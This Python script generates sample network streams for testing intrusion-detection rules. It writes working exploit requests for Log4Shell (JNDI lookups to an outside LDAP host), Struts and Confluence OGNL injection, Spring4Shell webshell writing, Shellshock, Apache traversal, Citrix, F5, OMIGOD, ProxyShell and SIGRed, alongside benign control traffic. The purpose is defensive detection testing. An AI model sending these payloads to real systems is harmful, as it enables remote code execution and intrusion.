#!/usr/bin/env python3
"""Writes sample streams for the example rules (examples/rules/*.yaml).

usage: gen_samples.py OUTDIR

Each sample is the raw bytes of one direction of one flow (or one UDP
datagram), ready for `vpscan --stream FILE`.  OUTDIR/samples.tsv lists them
with the columns file, proto, port, direction, expect; `expect` is `match`
when the security-mode rule set should report at least one event and
`nomatch` when it should stay silent.  The output is the same on every run
(no clocks, no randomness).  Addresses are from the documentation ranges
(RFC 5737) and domains use .example/.test.  Python 3 standard library only.
"""
import os
import struct
import sys

CRLF = "\r\n"


def http_request(method, target, headers, body=b""):
    """An HTTP/1.1 request; Content-Length is added when there is a body."""
    if isinstance(body, str):
        body = body.encode("latin-1")
    lines = ["%s %s HTTP/1.1" % (method, target)]
    lines += ["%s: %s" % (k, v) for k, v in headers]
    if body or method in ("POST", "PUT"):
        lines.append("Content-Length: %d" % len(body))
    return (CRLF.join(lines) + CRLF + CRLF).encode("latin-1") + body


def http_response(status, headers, body=b""):
    lines = ["HTTP/1.1 %s" % status]
    lines += ["%s: %s" % (k, v) for k, v in headers]
    lines.append("Content-Length: %d" % len(body))
    return (CRLF.join(lines) + CRLF + CRLF).encode("latin-1") + body


def dns_query(txid, name, qtype, flags=0x0100):
    """A DNS query with one question (class IN) and no other records."""
    qname = b"".join(bytes([len(label)]) + label.encode("ascii") for label in name.split("."))
    return struct.pack(">HHHHHH", txid, flags, 1, 0, 0, 0) + qname + b"\x00" + struct.pack(">HH", qtype, 1)


def java_class(name):
    """The start of a class file: magic, version 52 (Java 8), a constant pool head."""
    utf8 = name.encode("ascii")
    return (b"\xca\xfe\xba\xbe" + struct.pack(">HHH", 0, 52, 29) +
            b"\x0a\x00\x06\x00\x10" + b"\x01" + struct.pack(">H", len(utf8)) + utf8 +
            b"\x00" * 32)


UA_BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0"

OMI_BODY = (
    '<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope" '
    'xmlns:a="http://schemas.xmlsoap.org/ws/2004/08/addressing" '
    'xmlns:w="http://schemas.dmtf.org/wbem/wsman/1/wsman.xsd" '
    'xmlns:p="http://schemas.dmtf.org/wbem/wscim/1/cim-schema/2/SCX_OperatingSystem">'
    "<s:Header><a:To>HTTP://192.0.2.50:5985/wsman/</a:To>"
    '<w:ResourceURI s:mustUnderstand="true">'
    "http://schemas.dmtf.org/wbem/wscim/1/cim-schema/2/SCX_OperatingSystem</w:ResourceURI>"
    "<a:Action>http://schemas.dmtf.org/wbem/wscim/1/cim-schema/2/SCX_OperatingSystem/"
    "ExecuteShellCommand</a:Action></s:Header>"
    "<s:Body><p:ExecuteShellCommand_INPUT><p:command>id</p:command>"
    "<p:timeout>0</p:timeout></p:ExecuteShellCommand_INPUT></s:Body></s:Envelope>"
)

SPRING_BODY = "&".join(
    "class.module.classLoader.resources.context.parent.pipeline.first.%s=%s" % kv
    for kv in [
        ("pattern", "%25%7Bc2%7Di%20if(%22j%22.equals(request.getParameter(%22pwd%22)))"
                    "%7B%20%7D%20%25%7Bsuffix%7Di"),
        ("suffix", ".jsp"),
        ("directory", "webapps/ROOT"),
        ("prefix", "tomcatwar"),
        ("fileDateFormat", ""),
    ])

STRUTS_CT = (
    "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)."
    "(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2."
    "ActionContext.container']).(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2."
    "ognl.OgnlUtil@class)).(#ognlUtil.getExcludedPackageNames().clear())."
    "(#ognlUtil.getExcludedClasses().clear()).(#context.setMemberAccess(#dm))))."
    "(#cmd='whoami').(#iswin=(@java.lang.System@getProperty('os.name').toLowerCase()."
    "contains('win'))).(#cmds=(#iswin?{'cmd.exe','/c',#cmd}:{'/bin/bash','-c',#cmd}))."
    "(#p=new java.lang.ProcessBuilder(#cmds)).(#p.redirectErrorStream(true))."
    "(#process=#p.start()).(@org.apache.commons.io.IOUtils@copy(#process.getInputStream(),"
    "@org.apache.struts2.ServletActionContext@getResponse().getOutputStream()))}"
)


def samples():
    """(file, proto, port, direction, expect, bytes) in manifest order."""
    yield ("log4shell-uri.bin", "tcp", 8080, "to_server", "match", http_request(
        "GET", "/app/search?q=${jndi:ldap://198.51.100.23:1389/Exploit}",
        [("Host", "192.0.2.20:8080"), ("User-Agent", "curl/7.81.0"), ("Accept", "*/*")]))
    yield ("log4shell-obfuscated-ua.bin", "tcp", 80, "to_server", "match", http_request(
        "GET", "/",
        [("Host", "www.example"),
         ("User-Agent", "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://203.0.113.9:1389/x}"),
         ("Accept", "*/*")]))
    yield ("java-class-response.bin", "tcp", 8000, "to_client", "match", http_response(
        "200 OK", [("Server", "SimpleHTTP/0.6 Python/3.10.12"), ("Content-type", "application/java-vm")],
        java_class("Exploit")))
    yield ("struts-content-type.bin", "tcp", 8080, "to_server", "match", http_request(
        "POST", "/struts2-showcase/fileupload/doUpload.action",
        [("Host", "192.0.2.40:8080"), ("User-Agent", UA_BROWSER), ("Content-Type", STRUTS_CT)], b""))
    yield ("spring4shell-post.bin", "tcp", 8080, "to_server", "match", http_request(
        "POST", "/helloworld/greeting",
        [("Host", "192.0.2.30:8080"), ("User-Agent", "python-requests/2.27.1"),
         ("suffix", "%>//"), ("c1", "Runtime"), ("c2", "<%"),
         ("Content-Type", "application/x-www-form-urlencoded")], SPRING_BODY))
    yield ("confluence-ognl.bin", "tcp", 8090, "to_server", "match", http_request(
        "GET", "/%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22touch%20/tmp/pwned%22%29%7D/",
        [("Host", "wiki.example:8090"), ("User-Agent", UA_BROWSER)]))
    yield ("shellshock-ua.bin", "tcp", 80, "to_server", "match", http_request(
        "GET", "/cgi-bin/status",
        [("Host", "192.0.2.10"), ("User-Agent", "() { :; }; /bin/bash -c 'id > /tmp/x'"), ("Accept", "*/*")]))
    yield ("apache-traversal.bin", "tcp", 80, "to_server", "match", http_request(
        "POST", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
        [("Host", "192.0.2.15"), ("User-Agent", "curl/7.81.0"), ("Content-Type", "text/plain")],
        "echo Content-Type: text/plain; echo; id"))
    yield ("citrix-newbm.bin", "tcp", 443, "to_server", "match", http_request(
        "POST", "/vpn/../vpns/portal/scripts/newbm.pl",
        [("Host", "gateway.example.com"), ("NSC_USER", "../../../netscaler/portal/templates/demo"),
         ("NSC_NONCE", "nsroot"), ("Content-Type", "application/x-www-form-urlencoded")],
        "url=http://example.com&title=[%25t=template.new({'BLOCK'='print `id`'})%25]&desc=d&UI_inuse=a"))
    yield ("f5-bash.bin", "tcp", 443, "to_server", "match", http_request(
        "POST", "/mgmt/tm/util/bash",
        [("Host", "127.0.0.1"), ("Authorization", "Basic YWRtaW46"), ("X-F5-Auth-Token", "a"),
         ("Connection", "close, X-F5-Auth-Token"), ("Content-Type", "application/json")],
        '{"command":"run","utilCmdArgs":"-c id"}'))
    yield ("omigod-wsman.bin", "tcp", 5985, "to_server", "match", http_request(
        "POST", "/wsman",
        [("Host", "192.0.2.50:5985"), ("User-Agent", "python-requests/2.26.0"),
         ("Content-Type", "application/soap+xml;charset=UTF-8")], OMI_BODY))
    yield ("proxyshell-powershell.bin", "tcp", 443, "to_server", "match", http_request(
        "POST", "/autodiscover/autodiscover.json?@evil.example/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBB"
        "&Email=autodiscover/autodiscover.json%3F@evil.example",
        [("Host", "mail.corp.example"), ("User-Agent", "python-requests/2.25.1"),
         ("Content-Type", "application/soap+xml;charset=UTF-8")], b""))
    yield ("dns-sig-query.bin", "udp", 53, "to_server", "match",
           dns_query(0x4a11, "sigred.attacker.test", 24))

    # Ordinary traffic: nothing may fire.
    yield ("benign-get.bin", "tcp", 80, "to_server", "nomatch", http_request(
        "GET", "/products/search?q=java+class+loader&page=2",
        [("Host", "www.example"), ("User-Agent", UA_BROWSER),
         ("Accept", "text/html,application/xhtml+xml"), ("Accept-Language", "en-US,en;q=0.5"),
         ("Cookie", "session=2f6c1d0e9a; theme=dark"), ("Connection", "keep-alive")]))
    yield ("benign-post.bin", "tcp", 8080, "to_server", "nomatch", http_request(
        "POST", "/api/v1/comments",
        [("Host", "192.0.2.20:8080"), ("User-Agent", UA_BROWSER),
         ("Content-Type", "application/json"), ("Connection", "close")],
        '{"thread":42,"text":"Template ${name} works; see /docs/../faq and function () { init(); };"}'))
    yield ("benign-response.bin", "tcp", 8000, "to_client", "nomatch", http_response(
        "200 OK", [("Content-Type", "application/java-archive")],
        b"PK\x03\x04\x14\x00\x08\x08\x08\x00" + b"\x00" * 32))
    yield ("winrm-authenticated.bin", "tcp", 5985, "to_server", "nomatch", http_request(
        "POST", "/wsman",
        [("Host", "192.0.2.50:5985"), ("Authorization", "Basic b21pYWRtaW46czNjcjN0"),
         ("Content-Type", "application/soap+xml;charset=UTF-8")], OMI_BODY))
    yield ("exchange-autodiscover.bin", "tcp", 443, "to_server", "nomatch", http_request(
        "GET", "/autodiscover/autodiscover.json?Email=alice@corp.example&Protocol=ActiveSync&RedirectCount=1",
        [("Host", "mail.corp.example"), ("User-Agent", "Microsoft Office/16.0")]))
    yield ("dns-query.bin", "udp", 53, "to_server", "nomatch",
           dns_query(0x4a12, "www.example.com", 1))


def main(argv):
    if len(argv) != 2:
        sys.stderr.write("usage: gen_samples.py OUTDIR\n")
        return 2
    outdir = argv[1]
    os.makedirs(outdir, exist_ok=True)
    rows = ["file\tproto\tport\tdirection\texpect"]
    for name, proto, port, direction, expect, data in samples():
        with open(os.path.join(outdir, name), "wb") as f:
            f.write(data)
        rows.append("%s\t%s\t%d\t%s\t%s" % (name, proto, port, direction, expect))
    with open(os.path.join(outdir, "samples.tsv"), "w", newline="\n") as f:
        f.write("\n".join(rows) + "\n")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
